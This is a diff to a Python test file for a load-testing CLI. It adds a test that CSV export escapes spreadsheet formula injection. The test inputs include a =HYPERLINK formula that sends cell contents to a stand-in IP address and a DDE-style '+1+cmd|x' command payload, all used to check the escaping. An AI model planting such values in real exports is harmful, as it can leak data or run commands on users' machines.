@@ -15,6 +15,7 @@ import pytest
 from typer.testing import CliRunner
 
 from crossover import cli
+from crossover.loadtests.campaign.campaign_text import show_run
 from crossover.loadtests.campaign.level_runner import level_text
 from crossover.loadtests.records.journal_events import Capacity
 from crossover.loadtests.records.run_folder import EVENTS, MANIFEST, REQUESTS
@@ -415,8 +416,24 @@ def test_a_shared_copy_of_an_endpoints_run_has_no_host_path_or_custom_slo(
         word for word in ("acme", "alice", "gguf", "gpu7") if word in shown_value + output[-1]
     ]
     again = read_report(tmp_path / "shared")
-    assert "cell 1" in output[-1] and "cell 1" in [one.key for one in again.cells]
+    assert "cell-1" in output[-1] and "cell-1" in [one.key for one in again.cells]
     assert headline.headline(answers_of(again), again).startswith("This machine serves ")
+    show_run(tmp_path / "shared")  # as `campaign show` does
+
+
+def test_no_text_of_the_csv_is_read_as_a_formula() -> None:
+    names = (
+        '=HYPERLINK("http://198.51.100.7/?"&A1)',
+        "+1+cmd|x",
+        "@SUM(1,1)",
+        "-1",
+        "\t=1",
+        "\r=1",
+    )
+    written = json_and_csv.as_csv([{"model": name, "rate": -0.5} for name in names]).decode()
+    rows = list(csv.DictReader(io.StringIO(written, newline="")))
+    assert [row["model"] for row in rows] == ["'" + name.replace("\r", " ") for name in names]
+    assert {row["rate"] for row in rows} == {"-0.5"}
 
 
 def test_only_models_that_miss_the_slo_unloaded_need_a_gpu() -> None:
